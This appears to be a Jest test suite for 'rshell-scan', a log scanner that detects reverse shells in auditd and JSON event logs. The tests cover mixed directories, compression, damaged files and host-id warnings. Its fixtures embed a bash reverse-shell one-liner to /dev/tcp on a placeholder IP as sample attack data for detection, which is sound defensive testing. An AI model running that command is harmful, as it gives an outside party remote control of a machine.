// A folder as a responder gets it: logs of several kinds, and files that are none.
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { withFiles } from '../io/files.js';
import { runCli } from '../support/cli.js';
import { ROUTES } from '../support/routes.js';

const record = (serial: number, type: string, text: string): string =>
  `type=${type} msg=audit(1795234438.224:${serial}): ${text}\n`;
const event = (serial: number, command: string): string =>
  record(serial, 'SYSCALL', 'arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=7 comm="sh"') +
  record(
    serial,
    'EXECVE',
    `argc=3 a0="sh" a1="-c" a2=${Buffer.from(command).toString('hex').toUpperCase()}`,
  ) +
  record(serial, 'PROCTITLE', 'proctitle="sh"');
const SHELL = 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1';
const JSON_FILES = {
  json: '{"@timestamp":1,"event":{"category":["process"]}}\n'.repeat(3),
  array: '[\n{"@timestamp":1},\n{"@timestamp":2}\n]\n',
};
const PNG = Buffer.from('89504e470d0a1a0a', 'hex');

describe('a mixed directory', () => {
  const files = {
    'web1/audit.log': event(3, 'true'),
    'web2/audit.log': event(5, SHELL),
    'events.ndjson': '{"@timestamp":"2026-11-21T00:00:00Z","event":{"category":["process"]}}\n',
    'notes.txt': 'call Bob',
  };

  test('what holds events is read, the rest is told in a line each', async () => {
    await withFiles(files, async (root) => {
      writeFileSync(path.join(root, 'web1/audit.log.1.gz'), gzipSync(event(1, SHELL)));
      writeFileSync(path.join(root, 'picture.log'), PNG);
      writeFileSync(path.join(root, 'old.log.xz'), Buffer.from('fd377a585a0000', 'hex'));
      mkdirSync(path.join(root, 'out'));
      const saved = path.join(root, 'out', 'alerts.ndjson');
      await runCli(['web2', '-q', '-o', `ndjson=${saved}`], { cwd: root });
      const { stdout, stderr, code } = await runCli(['.', '-o', 'json', '-v'], { cwd: root });
      const { summary, alerts } = JSON.parse(stdout) as {
        readonly summary: { readonly inputs: readonly object[] };
        readonly alerts: readonly object[];
      };
      expect(alerts).toHaveLength(2);
      // What is packed in a way that is not read may have held more.
      expect(code).toBe(4);
      expect(summary.inputs).toMatchObject([
        { name: 'events.ndjson', format: 'ndjson', events: 1 },
        { name: 'old.log.xz', events: 0 },
        { name: 'out/alerts.ndjson', events: 0 },
        { name: 'picture.log', events: 0 },
        { name: 'web1/audit.log.1.gz', format: 'auditd', compression: 'gzip', events: 1 },
        { name: 'web1/audit.log', format: 'auditd', events: 1 },
        { name: 'web2/audit.log', format: 'auditd', events: 1 },
      ]);
      expect(stderr.match(/^\w+\[RS\d+\].*$/gm)).toEqual([
        'info[RS424]: left out: 1 other file (notes.txt)',
        'error[RS322]: expected plain, gzip or zstd; this is xz',
        'error[RS308]: expected events; these are alerts of rshell-scan',
        'error[RS308]: expected events; this looks like a PNG image',
        'warning[RS334]: 2 logs do not tell their host, and are taken for those of one: web1/audit.log, web2/audit.log',
      ]);
      expect(stderr).toContain('unpack it: xzcat old.log.xz | rshell-scan -');
      expect(stderr).toContain('show them with `rshell-scan report out/alerts.ndjson`');
      expect(stderr.replaceAll(/\s+/g, ' ')).toContain(
        '2 inputs hold no events: out/alerts.ndjson and picture.log.',
      );
      expect(stderr).not.toContain('bad line');
    });
  });
});

test('a text that is no log: one line of it, and how many there are', async () => {
  await withFiles({ 'README.log': '# What\n\nis this?\n'.repeat(20) }, async (root) => {
    const { stderr, code } = await runCli(['README.log'], { cwd: root });
    expect(code).toBe(2);
    expect(stderr.match(/RS\d+/g)).toEqual(['RS301', 'RS405', 'RS301']);
    expect(stderr).toContain('none of 40 lines could be read');
    expect(stderr).toContain('and 39 more RS301');
  });
});

test('a directory of damaged files of every kind: no failure of ours, each file accounted for', async () => {
  const text = event(3, SHELL) + record(4, 'USER_LOGIN', "pid=9 msg='op=login res=success'");
  const ways = [...ROUTES.map(([, write]) => write(text)), JSON_FILES.json, JSON_FILES.array, ''];
  const damaged = fc.tuple(
    fc.constantFrom(...ways),
    fc.nat({ max: 900 }),
    fc.uint8Array({ maxLength: 9 }),
  );
  const some = fc.sample(damaged, { numRuns: 80, seed: 7 });
  const contents = some.map(([whole, at, bytes]) =>
    Buffer.concat([Buffer.from(whole.slice(0, at)), bytes, Buffer.from(whole.slice(at + 5))]),
  );
  const named = Object.fromEntries(contents.map((bytes, number) => [`${number}.log`, bytes]));
  await withFiles(named, async (root) => {
    const { stdout, stderr, code } = await runCli(['.', '-o', 'json', '--strict'], { cwd: root });
    expect([1, 3, 4]).toContain(code);
    expect(stderr).not.toContain('internal');
    const { summary } = JSON.parse(stdout) as {
      summary: {
        inputs: { name: string; events: number; bad_lines: number; records: number | null }[];
      };
    };
    expect(summary.inputs).toHaveLength(80);
    for (const { name, events, bad_lines: bad, records } of summary.inputs) {
      const content = contents[Number.parseInt(name, 10)] ?? Buffer.alloc(0);
      const isEmpty = content.toString('latin1').trim() === '';
      expect([name, isEmpty || events + bad + (records ?? 0) > 0]).toEqual([name, true]);
    }
  });
});

test('logs that do not tell their host: said, unless they are one or the host is', async () => {
  const log = event(3, 'true');
  const files = { 'a/audit.log': log, 'a/audit.log.1': log, 'b/audit.log': log };
  await withFiles(files, async (root) => {
    const warns = async (...args: readonly string[]): Promise<boolean> =>
      (await runCli(args, { cwd: root })).stderr.includes('RS334');
    expect(await warns('.')).toBe(true);
    expect(await warns('a')).toBe(false);
    expect(await warns('.', '--host-id', 'c0ffee')).toBe(false);
    writeFileSync(path.join(root, 'b/audit.log'), log.replaceAll('type=', 'node=b type='));
    expect(await warns('.')).toBe(false);
  });
});

describe('--format', () => {
  const files = { 'audit.log': event(3, SHELL) };

  test('is for every command that reads events', async () => {
    await withFiles(files, async (root) => {
      const run = async (...args: readonly string[]): Promise<string> => {
        const { stderr } = await runCli([...args, '--format', 'laurel', 'audit.log'], {
          cwd: root,
        });
        return stderr;
      };
      expect(await run('scan')).toContain('RS301');
      expect(await run('query', 'any where true')).toContain('RS301');
      expect(await run('fields')).toContain('RS301');
      expect(await run('explain', '--eql', 'any where true')).toContain('RS301');
      expect(await run('shell')).toContain('RS301');
    });
  });

  test('from the configuration, and wrong names', async () => {
    const project = { ...files, '.rshell-scan.toml': 'format = "json"\n' };
    await withFiles(project, async (root) => {
      expect((await runCli(['audit.log'], { cwd: root })).stderr).toContain('RS301');
      const { stderr, code } = await runCli(['audit.log', '--format', 'auditbeat'], { cwd: root });
      expect(code).toBe(2);
      expect(stderr).toContain('expected auto, json, auditd, journald, journald-export, laurel');
    });
  });

  test('the library has it, too', async () => {
    const { loadRules, scan } = await import('../../src/index.js');
    await withFiles(files, async (root) => {
      const { rules } = loadRules();
      const found = async (format: 'auto' | 'json'): Promise<number> => {
        let alerts = 0;
        const audit = { host: { id: 'h1' } };
        for await (const alert of scan([path.join(root, 'audit.log')], { rules, format, audit })) {
          expect(alert.events[0]?.document).toMatchObject({ host: { id: 'h1' } });
          alerts += 1;
        }
        return alerts;
      };
      expect(await found('auto')).toBe(1);
      expect(await found('json')).toBe(0);
    });
  });
});

test('an audit log that does not tell its host: the summary says how to', async () => {
  const record =
    'type=SYSCALL msg=audit(1700000000.000:1): arch=c000003e syscall=59 success=yes exit=0 pid=2 comm="id" exe="/usr/bin/id"\n';
  for (const [node, args, isTold] of [
    ['', [], true],
    ['node=web ', [], false],
    ['', ['--host-id', 'web'], false],
  ] as const) {
    const { stderr } = await runCli(['-', ...args], { stdin: node + record });
    expect(stderr).toContain('1 audit record -> 1 event');
    expect(stderr.includes('host.id unknown (--host-id tells it)')).toBe(isTold);
  }
});
